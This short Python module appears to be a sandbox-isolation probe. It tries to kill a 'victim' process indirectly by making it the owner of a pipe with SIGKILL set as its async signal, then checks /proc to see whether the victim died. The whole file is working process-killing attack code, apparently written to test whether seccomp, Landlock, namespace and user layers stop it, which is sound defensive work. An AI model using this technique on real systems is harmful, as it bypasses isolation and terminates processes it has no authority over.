"""Names another process as the owner of a pipe, so that the kernel sends it SIGKILL when the pipe is written."""

import fcntl
import os
import time

LAYERS = ("seccomp", "landlock", "namespaces", "user")
ENDS = ("PermissionError", "ProcessLookupError", "OSError", "the victim lives")


def attack(arena):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, arena["victim"])
    fcntl.fcntl(reader, 10, 9)  # F_SETSIG, SIGKILL
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
    for _ in range(2000):
        with open(f"/proc/{arena['victim']}/stat") as status:
            if status.read().rpartition(")")[2].split()[0] in "ZX":
                return "open"
        time.sleep(0.001)
    return "the victim lives"
